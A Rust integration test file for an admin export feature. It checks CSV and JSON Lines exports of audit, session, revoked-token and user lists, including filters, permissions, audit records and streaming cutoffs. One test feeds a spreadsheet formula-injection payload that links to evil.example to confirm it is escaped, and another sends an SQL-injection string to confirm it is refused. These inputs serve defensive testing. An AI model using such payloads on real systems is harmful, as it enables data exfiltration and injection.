//! Rooms /admin/…/export: the admin's lists as files, whole or recognisably not.

use std::collections::BTreeMap;
use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use diesel::connection::SimpleConnection;
use portero::accounts::sessions::end::end_anybodys;
use portero::domain::SessionId;
use portero::store::session_ends::Which;
use serde_json::{Value, json};

use crate::common::as_json;
use crate::support::database::Behind;
use crate::support::{Answer, Browser, PASSWORD, TestApp, claims, operator};

const LISTS: [&str; 4] = ["audit", "sessions", "revoked", "users"];
/// More than all buffers between a server and a client hold: 20 MB.
const MANY: usize = 10_000;

fn app() -> TestApp {
    let app = TestApp::start();
    app.add_admin("ana");
    app.add_user("bea");
    app
}

/// Adds so many audit events of 2 kB each, all in one second and from 10.0.0.1.
fn add_events(app: &TestApp, count: usize) {
    let ip_hash = app
        .accounts
        .db
        .seal()
        .unwrap()
        .ip_hash("10.0.0.1")
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect::<String>();
    let mut database = Behind::of(app.folder());
    let (ip_hash, filler) = (database.bytes(&ip_hash), "0".repeat(2000));
    database.execute(&format!(
        "WITH RECURSIVE i(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM i WHERE i < {count})
         INSERT INTO audit_events (n, at, what, ip, ip_hash, details)
         SELECT (SELECT max(n) FROM audit_events) + i, 1700000000, 'signed_in', '10.0.0.1', {ip_hash}, '{{\"x\":\"{filler}\"}}' FROM i"
    ));
}

fn export(browser: &mut Browser, path: &str) -> Answer {
    let answer = browser.get(path);
    assert_eq!(answer.status, 200, "{path}: {}", answer.body);
    answer
}

/// The objects of a file in JSON Lines.
fn objects(text: &str) -> Vec<Value> {
    text.lines().map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"))).collect()
}

/// The rows of a file in CSV, by column.
fn rows(text: &str) -> Vec<BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader.deserialize().map(|row| row.unwrap()).collect()
}

fn exports_on_record(browser: &mut Browser) -> Vec<Value> {
    as_json(browser, "/admin/audit?what=exported")["events"].as_array().unwrap().clone()
}

#[test]
fn each_list_is_to_be_had_as_a_file_of_both_formats() {
    let app = app();
    let mut admin = app.signed_in("ana");
    let mut bea = app.signed_in("bea");
    bea.get("/account");
    bea.post("/logout", &[]);
    for list in LISTS {
        let page = admin.get(&format!("/admin/{list}")).body;
        for (format, media_type) in
            [("csv", "text/csv; charset=utf-8; header=present"), ("jsonl", "application/jsonl; charset=utf-8")]
        {
            let href = format!("/admin/{list}/export?format={format}");
            assert!(page.contains(&format!("href=\"{href}\"")), "{href} in {page}");
            let answer = export(&mut admin, &href);
            assert_eq!(answer.header("content-type"), Some(media_type));
            assert_eq!(answer.header("cache-control"), Some("no-store"));
            let disposition = answer.header("content-disposition").unwrap();
            let begin = format!("attachment; filename=\"portero-{list}-20");
            assert!(disposition.starts_with(&begin) && disposition.ends_with(&format!(".{format}\"")), "{disposition}");
        }
        let csv = rows(&export(&mut admin, &format!("/admin/{list}/export?format=csv")).body);
        let lines = objects(&export(&mut admin, &format!("/admin/{list}/export?format=jsonl")).body);
        // The second audit export has the record of the first, and of itself.
        let lines = &lines[if list == "audit" { 1 } else { 0 }..];
        assert_eq!(csv.len(), lines.len(), "{list}");
        for (row, line) in csv.iter().zip(lines) {
            let line = line.as_object().unwrap();
            assert_eq!(row.keys().collect::<Vec<_>>(), line.keys().collect::<Vec<_>>(), "{list}");
            for (name, value) in line {
                let cell = value
                    .as_str()
                    .map_or_else(|| if value.is_null() { String::new() } else { value.to_string() }, str::to_owned);
                assert!(row[name] == cell || name == "last_seen_at", "{list} {name}: {row:?} {line:?}");
            }
        }
    }
}

#[test]
fn the_columns_are_those_that_the_docs_name_in_their_order() {
    let app = app();
    let mut admin = app.signed_in("ana");
    let doc = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/export.md")).unwrap();
    for list in LISTS {
        let text = export(&mut admin, &format!("/admin/{list}/export?format=csv&state=")).body;
        let header = text.split("\r\n").next().unwrap();
        let section = doc.split(&format!("\n## {list}\n")).nth(1).unwrap_or_else(|| panic!("no section {list}"));
        let section = section.split("\n## ").next().unwrap();
        let named: Vec<_> = section
            .lines()
            .filter_map(|line| line.strip_prefix("| `"))
            // What a command alone exports.
            .filter(|line| !line.contains("only with `portero user export"))
            .map(|line| line.split('`').next().unwrap())
            .collect();
        assert_eq!(named.join(","), header, "{list}");
    }
    let line = export(&mut admin, "/admin/users/export?format=jsonl").body;
    assert!(line.starts_with(r#"{"id":1,"uid":""#), "{line}");
}

#[test]
fn moments_are_in_iso_8601_and_utc() {
    let app = TestApp::with(&[("time_zone", "Europe/Madrid")]);
    app.add_admin("ana");
    let mut admin = app.signed_in("ana");
    let at = as_json(&mut admin, "/admin/sessions")["sessions"][0]["signed_in_at"].as_i64().unwrap();
    let told = &objects(&export(&mut admin, "/admin/sessions/export?format=jsonl").body)[0];
    assert_eq!(told["signed_in_at"], json!(jiff::Timestamp::from_second(at).unwrap().to_string()));
    assert!(told["signed_in_at"].as_str().unwrap().ends_with('Z'));
}

#[test]
fn an_export_has_what_the_filters_let_through_and_nothing_else() {
    let app = app();
    app.add_user("carl");
    app.delete("carl");
    let mut admin = app.signed_in("ana");
    app.signed_in("bea");
    app.tokens("bea");
    app.browser().sign_in("bea", "not it at all");
    for (path, count) in [
        ("/admin/audit/export?user=bea&what=signed_in", 2),
        ("/admin/audit/export?user=bea&by=ana", 0),
        ("/admin/audit/export?what=sign_in_failed&ip=127.0.0.1", 1),
        ("/admin/audit/export?user=bea&until=2020-01-01", 0),
        ("/admin/sessions/export?user=bea", 2),
        ("/admin/sessions/export?user=bea&state=odd", 0),
        ("/admin/users/export?name=b", 1),
        ("/admin/users/export?state=deleted", 1),
        ("/admin/revoked/export?user=bea", 0),
    ] {
        assert_eq!(objects(&export(&mut admin, &format!("{path}&format=jsonl")).body).len(), count, "{path}");
        assert_eq!(rows(&export(&mut admin, &format!("{path}&format=csv")).body).len(), count, "{path}");
    }
    let page = admin.get("/admin/audit?user=bea&what=signed_in&before=1900000000.7").body;
    assert!(page.contains("/admin/audit/export?format=csv&#38;user=bea&#38;what=signed_in\""), "{page}");
}

#[test]
fn an_export_of_more_than_one_part_has_every_row_once() {
    let app = app();
    let mut admin = app.signed_in("ana");
    add_events(&app, 1_700);
    let mut database = Behind::of(app.folder());
    let copies: String = (1..=1_100)
        .map(|i| {
            format!("UPDATE one SET sid = '5116c888-512e-48e3-9949-{i:012}'; INSERT INTO sessions SELECT * FROM one;")
        })
        .collect();
    database.execute(&format!("CREATE TEMP TABLE one AS SELECT * FROM sessions LIMIT 1; {copies}"));
    let names: String = (1..=1_200)
        .map(|i| format!("UPDATE someone SET id = id + 1, uid = '{i}', username = 'user{i}', canonical = 'user{i}'; INSERT INTO users SELECT * FROM someone;"))
        .collect();
    database.execute(&format!(
        "CREATE TEMP TABLE someone AS SELECT * FROM users WHERE canonical = 'bea'; {names}
         UPDATE sessions SET ended_at = 1700000000, end_reason = 'logout' WHERE sid LIKE '5116c888%' AND sid < '5116c888-512e-48e3-9949-000000000600'"
    ));
    for (list, id, least) in
        [("audit", "n", 1_700), ("sessions", "sid", 502), ("revoked", "id", 599), ("users", "username", 1_202)]
    {
        let lines = objects(&export(&mut admin, &format!("/admin/{list}/export?format=jsonl")).body);
        let mut ids: Vec<_> = lines.iter().map(|line| line[id].to_string()).collect();
        let count = ids.len();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), count, "{list}");
        assert!((least..least + 20).contains(&count), "{list}: {count}");
        let csv = export(&mut admin, &format!("/admin/{list}/export?format=csv")).body;
        assert_eq!(csv.matches(&format!("{}\r\n", csv.split("\r\n").next().unwrap())).count(), 1, "one header");
    }
}

#[test]
fn a_rare_event_is_found_behind_more_rows_than_a_page_looks_at() {
    let app = app();
    let mut admin = app.signed_in("ana");
    let mut database = Behind::of(app.folder());
    let ip_hash = database.bytes("00");
    database.execute(&format!(
        "INSERT INTO audit_events (n, at, what, ip, ip_hash)
         SELECT max(n) + 1, 1600000000, 'key_added', '10.0.0.1', {ip_hash} FROM audit_events"
    ));
    add_events(&app, 21_000);
    let lines = objects(&export(&mut admin, "/admin/audit/export?format=jsonl&ip=10.0.0.1&what=confirmed").body);
    assert!(lines.is_empty());
    let csv = export(&mut admin, "/admin/audit/export?format=csv&ip=10.0.0.1&what=confirmed").body;
    assert_eq!(csv, "n,at,what,user,by,session,ip,details\r\n", "an empty file has its header, and its end");
}

#[test]
fn a_browser_that_calls_itself_a_formula_is_a_text_in_a_spreadsheet() {
    let app = app();
    let mut admin = app.signed_in("ana");
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    let mut bea = app.browser();
    bea.user_agent = evil.into();
    assert_eq!(bea.sign_in("bea", PASSWORD).status, 303);
    let text = export(&mut admin, "/admin/sessions/export?format=csv&user=bea").body;
    assert_eq!(rows(&text)[0]["user_agent"], format!("'{evil}"));
    let line = &objects(&export(&mut admin, "/admin/sessions/export?format=jsonl&user=bea").body)[0];
    assert_eq!(line["user_agent"], evil);
}

#[test]
fn only_admins_export() {
    let app = app();
    let (mut bea, token, admins) = (app.signed_in("bea"), app.tokens("bea").access, app.tokens("ana"));
    for list in LISTS {
        let path = format!("/admin/{list}/export?format=csv");
        assert_eq!(bea.get(&path).status, 403);
        assert!(app.browser().get(&path).location().starts_with("/login?next="), "{path}");
        assert_eq!(app.client().get(&path, None).status, 401);
        assert_eq!(app.client().get(&path, Some(&token)).status, 403);
        assert_eq!(app.client().get(&path, Some(&admins.refresh)).status, 422);
        assert_eq!(app.client().get(&path, Some(&admins.access)).status, 200);
    }
    let mut admin = app.signed_in("ana");
    assert!(exports_on_record(&mut admin).iter().all(|event| event["by"] == "ana"));
}

#[test]
fn who_exported_what_is_on_record() {
    let app = app();
    let mut admin = app.signed_in("ana");
    export(&mut admin, "/admin/audit/export?format=csv&user=bea&what=signed_in&ip=127.0.0.1&from=1700000000");
    export(&mut admin, "/admin/users/export?format=jsonl&name=B&state=");
    let page = admin.get("/admin/audit?what=exported").body;
    for word in ["List exported", "Audit log", "CSV", "user bea", "from 127.0.0.1", "names starting with “b”"] {
        assert!(page.contains(word), "{word} in {page}");
    }
    let events = exports_on_record(&mut admin);
    let filters = json!({ "user": "bea", "what": "signed_in", "ip": "127.0.0.1", "from": 1_700_000_000 });
    assert_eq!(events[1]["details"], json!({ "list": "audit", "format": "csv", "filters": filters }));
    assert_eq!(events[0]["details"], json!({ "list": "users", "format": "jsonl", "filters": { "name": "b" } }));
    assert!(events.iter().all(|event| event["by"] == "ana" && event["ip"] == "127.0.0.1"));
}

#[test]
fn what_makes_no_sense_is_refused_and_nothing_is_on_record() {
    let app = app();
    let mut admin = app.signed_in("ana");
    let long = "x".repeat(9_000);
    for path in [
        "audit/export",
        "audit/export?format=xlsx",
        "audit/export?format=csv&format=csv",
        "audit/export?format=csv&user=nobody",
        "audit/export?format=csv&by=nobody",
        "audit/export?format=csv&what=nonsense",
        "audit/export?format=csv&ip=' OR 1=1 --",
        "audit/export?format=csv&user=%ff%fe",
        "sessions/export?format=csv&user=nobody",
        "sessions/export?format=csv&state=all",
        "revoked/export?format=csv&state=x",
        "revoked/export?format=csv&reason=x",
        "users/export?format=csv&state=x",
        &format!("audit/export?format=csv&user={long}"),
    ] {
        let path = format!("/admin/{}", path.replace(' ', "%20"));
        assert_eq!(admin.get(&path).status, 400, "{path}");
    }
    assert!(exports_on_record(&mut admin).is_empty());
    // Any text may be the beginning of a name; not all of a long one is recorded.
    assert_eq!(export(&mut admin, &format!("/admin/users/export?format=jsonl&name={long}")).body, "");
    assert_eq!(exports_on_record(&mut admin)[0]["details"]["filters"]["name"], "x".repeat(64));
    assert_eq!(export(&mut admin, "/admin/users/export?format=jsonl&name=%25").body, "");
}

#[test]
fn another_site_cant_have_an_admin_export_anything() {
    let app = app();
    let mut admin = app.signed_in("ana");
    let path = "/admin/audit/export?format=csv";
    for site in ["cross-site", "same-site"] {
        assert_eq!(admin.get_with(path, &[("sec-fetch-site", site), ("sec-fetch-mode", "navigate")]).status, 403);
    }
    assert_eq!(admin.get_with(path, &[("referer", "https://evil.example/")]).status, 403);
    assert!(exports_on_record(&mut admin).is_empty());
    for site in ["same-origin", "none"] {
        assert_eq!(admin.get_with(path, &[("sec-fetch-site", site), ("sec-fetch-mode", "navigate")]).status, 200);
    }
}

#[test]
fn a_head_request_takes_nothing_and_leaves_no_record() {
    let app = app();
    let mut admin = app.signed_in("ana");
    let answer = admin.send("HEAD", "/admin/audit/export?format=csv", &[], b"");
    assert_eq!((answer.status, answer.body.as_str()), (200, ""));
    assert!(answer.header("content-disposition").is_some());
    assert!(exports_on_record(&mut admin).is_empty());
}

/// An export under way: its head was read, and little of its body.
struct Begun {
    stream: TcpStream,
    read: Vec<u8>,
}

impl Begun {
    fn new(app: &TestApp, token: &str, version: &str) -> Self {
        let mut stream = TcpStream::connect(app.address).unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        let request = format!(
            "GET /admin/audit/export?format=jsonl HTTP/{version}\r\nhost: x\r\nauthorization: Bearer {token}\r\n\r\n"
        );
        stream.write_all(request.as_bytes()).unwrap();
        let mut read = vec![0; 4_000];
        stream.read_exact(&mut read).unwrap();
        assert!(read.starts_with(format!("HTTP/{version} 200").as_bytes()), "{}", String::from_utf8_lossy(&read));
        // Until nothing more fits anywhere.
        std::thread::sleep(Duration::from_millis(500));
        Self { stream, read }
    }

    /// Reads on. Whether the answer came to its end, and how many rows there were.
    fn finish(mut self) -> (bool, usize) {
        let outcome = loop {
            let mut piece = [0; 64 * 1024];
            match self.stream.read(&mut piece) {
                Ok(0) => break true,
                Ok(read) => self.read.extend_from_slice(&piece[..read]),
                Err(error) if error.kind() == ErrorKind::ConnectionReset => break false,
                Err(error) => panic!("{error}"),
            }
            if self.read.ends_with(b"\r\n0\r\n\r\n") {
                break true;
            }
        };
        (outcome, self.read.windows(5).filter(|piece| *piece == b"{\"n\":").count())
    }
}

#[test]
fn an_export_whose_session_ends_breaks_off_so_that_nobody_takes_it_for_whole() {
    let app = app();
    add_events(&app, MANY);
    // In HTTP/1.0 the end of the connection is the end of the file, and proxies speak it.
    for version in ["1.1", "1.0"] {
        let token = app.tokens("ana").access;
        let begun = Begun::new(&app, &token, version);
        let sid = SessionId::parse(claims(&token)["sid"].as_str().unwrap()).unwrap();
        end_anybodys(&app.accounts, operator(), Which::One(sid)).committed().unwrap();
        let (is_whole, rows) = begun.finish();
        assert!(!is_whole && rows < MANY, "{version}: {rows}");
        let (is_whole, rows) = Begun::new(&app, &app.tokens("ana").access, version).finish();
        assert!(is_whole && rows > MANY, "{version}: {rows}");
    }
}

#[test]
fn an_export_of_somebody_who_may_not_any_more_breaks_off() {
    let app = app();
    add_events(&app, MANY);
    for name in ["carl", "dora"] {
        app.add_admin(name);
    }
    let demoted = Begun::new(&app, &app.tokens("carl").access, "1.1");
    app.set_role("carl", false);
    assert!(!demoted.finish().0);
    let disabled = Begun::new(&app, &app.tokens("dora").access, "1.1");
    app.disable("dora");
    assert!(!disabled.finish().0);
}

#[test]
fn a_confirmation_in_another_tab_and_an_access_token_that_runs_out_break_nothing_off() {
    let app = app();
    add_events(&app, MANY);
    let token = app.tokens("ana").access;
    let begun = Begun::new(&app, &token, "1.1");
    let confirmed = app.client().post_json("/confirm", Some(&token), &json!({ "password": PASSWORD }));
    assert_eq!(confirmed.status, 200, "{}", confirmed.body);
    assert_eq!(app.client().get("/protected", Some(&token)).status, 401);
    app.clock.advance(20 * 60);
    let (is_whole, rows) = begun.finish();
    assert!(is_whole && rows > MANY, "{rows}");
}

#[test]
fn whoever_stops_reading_keeps_nothing_from_the_others() {
    let app = app();
    add_events(&app, MANY);
    let token = app.tokens("ana").access;
    // More than there are threads and connections that read the database.
    let stopped: Vec<_> = (0..12).map(|_| Begun::new(&app, &token, "1.1")).collect();
    let begin = Instant::now();
    assert_eq!(app.signed_in("ana").get("/admin/sessions").status, 200);
    assert_eq!(app.signed_in("bea").get("/account").status, 200);
    assert!(begin.elapsed() < Duration::from_secs(3), "{:?}", begin.elapsed());
    // No transaction is open.
    match Behind::of(app.folder()) {
        Behind::Sqlite(mut conn) => {
            // So all of the WAL can be moved into the database.
            conn.batch_execute("PRAGMA wal_checkpoint(TRUNCATE)").unwrap();
            assert_eq!(std::fs::metadata(app.folder().join("portero.db-wal")).unwrap().len(), 0);
        }
        #[cfg(feature = "postgres")]
        mut postgres @ Behind::Postgres(_) => {
            let open = "SELECT query AS row FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in%'";
            assert_eq!(postgres.rows(open), Vec::<String>::new());
        }
    }
    for begun in stopped.into_iter().take(2) {
        assert!(begun.finish().0);
    }
}

#[test]
fn a_client_who_goes_away_in_the_middle_harms_nobody() {
    let app = app();
    add_events(&app, MANY);
    let token = app.tokens("ana").access;
    for _ in 0..5 {
        drop(Begun::new(&app, &token, "1.1"));
    }
    assert!(Begun::new(&app, &token, "1.1").finish().0);
}
